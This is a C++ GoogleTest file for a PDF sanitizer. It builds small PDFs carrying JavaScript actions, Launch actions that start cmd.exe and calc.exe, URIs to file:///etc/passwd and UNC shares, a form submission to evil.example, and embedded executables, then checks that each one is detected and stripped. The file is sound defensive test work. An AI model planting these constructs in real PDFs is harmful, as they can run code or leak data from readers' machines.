// One row per vector: a document that carries it, the finding it must give, and what the output may not contain.
#include <gmock/gmock.h>
#include <gtest/gtest.h>

#include "tests/sanitizer/formats/pdf/sample.h"

namespace sekisho::tests {
namespace {

struct Threat {
    const char* name;
    Finding finding;
    Sample (*make)();
    std::vector<std::string> gone;
};

Sample with_catalog(std::string entries) {
    Sample sample;
    sample.catalog = std::move(entries);
    return sample;
}

Sample with_annotation(const std::string& entries) {
    Sample sample;
    sample.page = "/Annots[<</Type/Annot/Rect[10 10 90 30]" + entries + ">>]";
    return sample;
}

Sample with_link(const std::string& action) {
    return with_annotation("/Subtype/Link/A<<" + action + ">>");
}

Sample with_field(const std::string& field, const std::string& form) {
    Sample sample;
    const int look = sample.add_stream("/Type/XObject/Subtype/Form/BBox[0 0 80 20]", "0 0 1 rg 0 0 80 20 re f");
    const int widget = sample.add("<</Type/Annot/Subtype/Widget/Rect[10 10 90 30]/T(field)" + field + "/AP<</N " +
                                  std::to_string(look) + " 0 R>>>>");
    sample.page = "/Annots[" + std::to_string(widget) + " 0 R]";
    sample.catalog = "/AcroForm<</Fields[" + std::to_string(widget) + " 0 R]" + form + ">>";
    return sample;
}

Sample with_object(const std::string& keys, const std::string& data) {
    Sample sample;
    sample.resources = "/XObject<</X " + std::to_string(sample.add_stream(keys, data)) + " 0 R>>";
    sample.content += " /X Do";
    return sample;
}

const std::vector<Threat> threats{
    {"javascript_name_tree",
     Finding::pdf_javascript,
     [] { return with_catalog("/Names<</JavaScript<</Names[(a)<</S/JavaScript/JS(app.alert(1))>>]>>>>"); },
     {"JavaScript", "app.alert"}},
    {"javascript_link",
     Finding::pdf_javascript,
     [] { return with_link("/S/JavaScript/JS(app.alert(1))"); },
     {"JavaScript", "app.alert"}},
    {"javascript_escaped_name",
     Finding::pdf_javascript,
     [] { return with_link("/S/J#61vaScript/J#53(app.alert(1))"); },
     {"JavaScript", "J#61", "app.alert"}},
    {"javascript_after_goto",
     Finding::pdf_javascript,
     [] { return with_link("/S/GoTo/D[3 0 R/Fit]/Next<</S/JavaScript/JS(app.alert(1))>>"); },
     {"JavaScript", "/Next", "app.alert"}},
    {"open_action",
     Finding::pdf_open_action,
     [] { return with_catalog("/OpenAction<</S/JavaScript/JS(app.alert(1))>>"); },
     {"OpenAction", "app.alert"}},
    {"additional_action_catalog",
     Finding::pdf_additional_action,
     [] { return with_catalog("/AA<</WC<</S/JavaScript/JS(app.alert(1))>>>>"); },
     {"/AA", "app.alert"}},
    {"additional_action_page",
     Finding::pdf_additional_action,
     [] {
         Sample s;
         s.page = "/AA<</O<</S/Launch/F(calc.exe)>>>>";
         return s;
     },
     {"/AA", "calc"}},
    {"additional_action_annotation",
     Finding::pdf_additional_action,
     [] { return with_annotation("/Subtype/Square/AA<</E<</S/Launch/F(calc.exe)>>>>"); },
     {"/AA", "calc"}},
    {"launch", Finding::pdf_launch, [] { return with_link("/S/Launch/Win<</F(cmd.exe)>>"); }, {"Launch", "cmd.exe"}},
    {"uri_javascript", Finding::pdf_uri, [] { return with_link("/S/URI/URI(javascript:alert)"); }, {"javascript:"}},
    {"uri_file", Finding::pdf_uri, [] { return with_link("/S/URI/URI(file:///etc/passwd)"); }, {"file:"}},
    {"uri_unc", Finding::pdf_uri, [] { return with_link("/S/URI/URI(\\\\\\\\server\\\\share)"); }, {"server"}},
    {"uri_with_control", Finding::pdf_uri, [] { return with_link("/S/URI/URI(http://a\\001b)"); }, {"http:"}},
    {"submit_form",
     Finding::pdf_submit_form,
     [] { return with_link("/S/SubmitForm/F(http://evil.example)"); },
     {"SubmitForm", "evil"}},
    {"import_data",
     Finding::pdf_import_data,
     [] { return with_link("/S/ImportData/F(data.fdf)"); },
     {"ImportData", "fdf"}},
    {"remote_goto",
     Finding::pdf_remote_goto,
     [] { return with_link("/S/GoToR/F(\\\\\\\\server\\\\a.pdf)/D[0/Fit]"); },
     {"GoToR", "server"}},
    {"embedded_goto", Finding::pdf_remote_goto, [] { return with_link("/S/GoToE/T<</R/C/N(a)>>"); }, {"GoToE"}},
    {"attachment",
     Finding::pdf_attachment,
     [] {
         Sample s;
         const int file = s.add_stream("/Type/EmbeddedFile", "MZ secret program");
         s.catalog = "/Names<</EmbeddedFiles<</Names[(a)<</Type/Filespec/F(a.exe)/EF<</F " + std::to_string(file) +
                     " 0 R>>>>]>>>>";
         return s;
     },
     {"EmbeddedFile", "secret program"}},
    {"attachment_annotation",
     Finding::pdf_attachment,
     [] { return with_annotation("/Subtype/FileAttachment/FS<</Type/Filespec/F(a.exe)>>"); },
     {"FileAttachment", "a.exe"}},
    {"portfolio", Finding::pdf_attachment, [] { return with_catalog("/Collection<</View/D>>"); }, {"Collection"}},
    {"rich_media",
     Finding::pdf_rich_media,
     [] { return with_annotation("/Subtype/RichMedia/RichMediaContent<</Assets<<>>>>"); },
     {"RichMedia"}},
    {"screen",
     Finding::pdf_rich_media,
     [] { return with_annotation("/Subtype/Screen/A<</S/Rendition>>"); },
     {"Screen", "Rendition"}},
    {"xfa",
     Finding::pdf_xfa,
     [] {
         Sample s = with_field("/FT/Tx", "/XFA(<xdp:xdp/>)");
         return s;
     },
     {"XFA", "xdp"}},
    {"form_script",
     Finding::pdf_form,
     [] { return with_field("/FT/Tx/AA<</K<</S/JavaScript/JS(app.alert(1))>>>>", "/NeedAppearances true/CO[]"); },
     {"AcroForm", "Widget", "app.alert"}},
    {"signature",
     Finding::pdf_signature,
     [] { return with_field("/FT/Sig/V<</Type/Sig/Contents<00112233>>>", "/SigFlags 3"); },
     {"/Sig", "00112233"}},
    {"content_operator",
     Finding::pdf_content,
     [] {
         Sample s;
         s.content += " 1 2 evil";
         return s;
     },
     {"evil"}},
    {"cycle_of_forms",
     Finding::pdf_cycle,
     [] {
         Sample s;
         const int number =
             s.add_stream("/Type/XObject/Subtype/Form/BBox[0 0 9 9]/Resources<</XObject<</A 6 0 R>>>>", "/A Do");
         s.resources = "/XObject<</A " + std::to_string(number) + " 0 R>>";
         s.content += " /A Do";
         return s;
     },
     {"/A 6 0 R"}},
    {"external_stream",
     Finding::pdf_external_stream,
     [] {
         return with_object("/Type/XObject/Subtype/Form/BBox[0 0 9 9]/F(\\\\\\\\server\\\\x)/FFilter/FlateDecode", "");
     },
     {"FFilter", "server"}},
    {"postscript",
     Finding::pdf_postscript,
     [] { return with_object("/Type/XObject/Subtype/PS", "(evil) run"); },
     {"/PS", "evil"}},
    {"postscript_form",
     Finding::pdf_postscript,
     [] { return with_object("/Type/XObject/Subtype/Form/Subtype2/PS/BBox[0 0 9 9]", "n"); },
     {"/PS"}},
    {"opi",
     Finding::pdf_postscript,
     [] { return with_object("/Type/XObject/Subtype/Form/BBox[0 0 9 9]/OPI<</2.0<</F(a.tif)>>>>", "n"); },
     {"OPI", "a.tif"}},
    {"reference_object",
     Finding::pdf_postscript,
     [] { return with_object("/Type/XObject/Subtype/Form/BBox[0 0 9 9]/Ref<</F(other.pdf)/Page 0>>", "n"); },
     {"/Ref", "other.pdf"}},
    {"bad_picture",
     Finding::pdf_picture,
     [] {
         return with_object(
             "/Type/XObject/Subtype/Image/Width 9/Height 9/BitsPerComponent 8/ColorSpace/DeviceRGB/Filter/DCTDecode",
             "not a jpeg, payload");
     },
     {"payload", "DCTDecode"}},
    {"bad_jbig2",
     Finding::pdf_picture,
     [] {
         return with_object(
             "/Type/XObject/Subtype/Image/Width 9/Height 9/BitsPerComponent 1/ColorSpace/DeviceGray/Filter/JBIG2Decode",
             "payload payload payload");
     },
     {"payload", "JBIG2"}},
    {"bad_jpx",
     Finding::pdf_picture,
     [] { return with_object("/Type/XObject/Subtype/Image/Width 9/Height 9/Filter/JPXDecode", "payload payload"); },
     {"payload", "JPX"}},
    {"metadata",
     Finding::pdf_metadata,
     [] {
         Sample s;
         s.trailer = "/Info<</Author(Taro Yamada)>>";
         return s;
     },
     {"Taro"}},
    {"xmp",
     Finding::pdf_metadata,
     [] {
         Sample s;
         s.catalog = "/Metadata " + std::to_string(s.add_stream("/Type/Metadata/Subtype/XML", "<x>Taro</x>")) + " 0 R";
         return s;
     },
     {"Taro", "Metadata"}},
    {"piece_info",
     Finding::pdf_metadata,
     [] {
         Sample s;
         s.page = "/PieceInfo<</App<</Private(secret)>>>>";
         return s;
     },
     {"PieceInfo", "secret"}},
    {"structure",
     Finding::pdf_structure,
     [] { return with_catalog("/StructTreeRoot<</Type/StructTreeRoot>>/MarkInfo<</Marked true>>"); },
     {"StructTreeRoot", "MarkInfo"}},
    {"named_action", Finding::pdf_named_action, [] { return with_link("/S/Named/N/Print"); }, {"Print"}},
    {"hide_action", Finding::pdf_named_action, [] { return with_link("/S/Hide/T(a)"); }, {"/Hide"}},
    {"transition",
     Finding::pdf_transition,
     [] {
         Sample s;
         s.page = "/Trans<</S/Dissolve>>/Dur 1";
         return s;
     },
     {"Trans", "Dur"}},
    {"unlisted_key",
     Finding::pdf_unlisted,
     [] {
         Sample s;
         s.page = "/EvilKey(evil)";
         return s;
     },
     {"Evil", "evil"}},
};

class Threats : public testing::TestWithParam<Threat> {};

TEST_P(Threats, AreFoundAndGone) {
    const Threat& threat = GetParam();
    const Rebuilt rebuilt = rebuild(threat.make().bytes());
    ASSERT_TRUE(rebuilt.result) << to_line(rebuilt.result.error());
    EXPECT_TRUE(rebuilt.found(threat.finding)) << row_of(threat.finding).code;
    const std::string all = unpacked(rebuilt.bytes);
    for (const std::string& word : threat.gone) {
        EXPECT_EQ(as_text(rebuilt.bytes).find(word), std::string::npos) << word;
        EXPECT_EQ(all.find(word), std::string::npos) << word;
    }
    EXPECT_THAT(text_of(rebuilt.bytes), testing::HasSubstr("Hello"));

    const Rebuilt again = rebuild(rebuilt.bytes);
    ASSERT_TRUE(again.result);
    EXPECT_FALSE(again.found_anything()) << row_of(again.entries[0].finding).code;
    EXPECT_EQ(rebuild(again.bytes).bytes, again.bytes);
}

INSTANTIATE_TEST_SUITE_P(Pdf, Threats, testing::ValuesIn(threats),
                         [](const auto& info) { return std::string(info.param.name); });

TEST(PdfOrphans, DoNotSurvive) {
    Sample sample;
    sample.add("<</S/JavaScript/JS(app.alert(1))>>");
    const Rebuilt rebuilt = rebuild(sample.bytes());
    ASSERT_TRUE(rebuilt.result);
    EXPECT_EQ(unpacked(rebuilt.bytes).find("JavaScript"), std::string::npos);
    EXPECT_FALSE(rebuilt.found_anything());
}

TEST(PdfBytes, OutsideTheDocumentDoNotSurvive) {
    Bytes bytes = to_bytes("MZ polyglot\n");
    const Bytes document = Sample().bytes();
    bytes.insert(bytes.end(), document.begin(), document.end());
    const Bytes tail = to_bytes("PK tail of another kind");
    bytes.insert(bytes.end(), tail.begin(), tail.end());
    const Rebuilt rebuilt = rebuild(bytes);
    ASSERT_TRUE(rebuilt.result);
    EXPECT_TRUE(rebuilt.found(Finding::pdf_bytes_outside));
    EXPECT_TRUE(starts_with(rebuilt.bytes, "%PDF-1.7"));
    EXPECT_EQ(as_text(rebuilt.bytes).find("polyglot"), std::string::npos);
    EXPECT_EQ(as_text(rebuilt.bytes).find("tail"), std::string::npos);
}

TEST(PdfRevisions, OlderOnesDoNotSurvive) {
    const Bytes first = Sample().bytes();
    std::string text(as_text(first));
    const std::size_t table = text.rfind("xref\n0");
    const std::size_t table_offset = text.find("xref\n0");
    ASSERT_EQ(text.find("startxref"), text.rfind("startxref"));
    const std::string body =
        "4 0 obj\n<</Length 36>>\nstream\nBT /F1 24 Tf 20 50 Td (Later) Tj ET \nendstream\nendobj\n";
    const std::string offset = std::to_string(text.size());
    const std::string new_table = std::to_string(text.size() + body.size());
    text += body + "xref\n4 1\n" + std::string(10 - offset.size(), '0') + offset +
            " 00000 n \ntrailer\n<</Root 1 0 R/Size 6/Prev " + std::to_string(table_offset) + ">>\nstartxref\n" +
            new_table + "\n%%EOF\n";
    (void)table;
    const Rebuilt rebuilt = rebuild(as_view(text));
    ASSERT_TRUE(rebuilt.result);
    EXPECT_TRUE(rebuilt.found(Finding::pdf_incremental_update));
    EXPECT_EQ(unpacked(rebuilt.bytes).find("Hello"), std::string::npos);
    EXPECT_THAT(text_of(rebuilt.bytes), testing::HasSubstr("Later"));
}

TEST(PdfFonts, ThatAreNotSoundAreLeftOut) {
    Sample sample;
    const int program = sample.add_stream("", std::string("\0\1\0\0evil font program", 21));
    const int descriptor = sample.add("<</Type/FontDescriptor/FontName/A/Flags 32/FontBBox[0 0 9 9]/ItalicAngle "
                                      "0/Ascent 9/Descent 0/CapHeight 9/StemV 9/FontFile2 " +
                                      std::to_string(program) + " 0 R>>");
    const int font =
        sample.add("<</Type/Font/Subtype/TrueType/BaseFont/A/FirstChar 65/LastChar 65/Widths[500]/FontDescriptor " +
                   std::to_string(descriptor) + " 0 R>>");
    sample.page = "/Annots[]";
    sample.resources = "/ExtGState<</G<</Font[" + std::to_string(font) + " 0 R 12]>>>>";
    sample.content += " /G gs";
    const Rebuilt rebuilt = rebuild(sample.bytes());
    ASSERT_TRUE(rebuilt.result);
    EXPECT_TRUE(rebuilt.found(Finding::pdf_font));
    EXPECT_EQ(unpacked(rebuilt.bytes).find("evil font"), std::string::npos);
    EXPECT_EQ(unpacked(rebuilt.bytes).find("FontFile"), std::string::npos);
}

TEST(PdfForms, KeepTheirLookAsPageContent) {
    const Rebuilt rebuilt = rebuild(with_field("/FT/Tx/V(x)", "").bytes());
    ASSERT_TRUE(rebuilt.result);
    const std::string all = unpacked(rebuilt.bytes);
    EXPECT_THAT(all, testing::HasSubstr("/Field1 Do"));
    EXPECT_THAT(all, testing::HasSubstr("0 0 1 rg"));
}

TEST(PdfForms, WithoutLookShowTheirFrame) {
    Sample sample;
    sample.page = "/Annots[<</Type/Annot/Subtype/Widget/Rect[10 10 190 30]/FT/Tx/T(a)/MK<</BC[1 0 0]/BG[0.5]>>"
                  "/BS<</W 2>>>>]";
    const std::string all = unpacked(rebuild(sample.bytes()).bytes);
    EXPECT_THAT(all, testing::HasSubstr("0.5 g 10 10 180 20 re f"));
    EXPECT_THAT(all, testing::HasSubstr("2 w 1 0 0 RG 11 11 178 18 re S"));
}

TEST(PdfForms, WithoutLookShowTheirValue) {
    const auto field = [](const std::string& value) {
        Sample sample;
        sample.page =
            "/Annots[<</Type/Annot/Subtype/Widget/Rect[10 10 190 30]/FT/Tx/T(a)/V" + value + "/DA(/Helv 12 Tf 0 g)>>]";
        sample.catalog = "/AcroForm<</Fields[]/NeedAppearances true>>";
        return sample.bytes();
    };
    const Rebuilt latin = rebuild(field("(Yaizu)"));
    EXPECT_THAT(text_of(latin.bytes), testing::HasSubstr("Yaizu"));
    EXPECT_EQ(rebuild(latin.bytes).entries.size(), 0U);
    // The characters of 焼津市; drawing them needs a font of the reader's.
    const Rebuilt japanese = rebuild(field("<FEFF713C6D255E02>"));
    const std::string all = unpacked(japanese.bytes);
    EXPECT_THAT(all, testing::AnyOf(testing::HasSubstr("<713C6D255E02>"), testing::HasSubstr("<713c6d255e02>")));
    EXPECT_THAT(all, testing::HasSubstr("UniJIS-UTF16-H"));
    EXPECT_EQ(rebuild(japanese.bytes).entries.size(), 0U);
}

} // namespace
} // namespace sekisho::tests
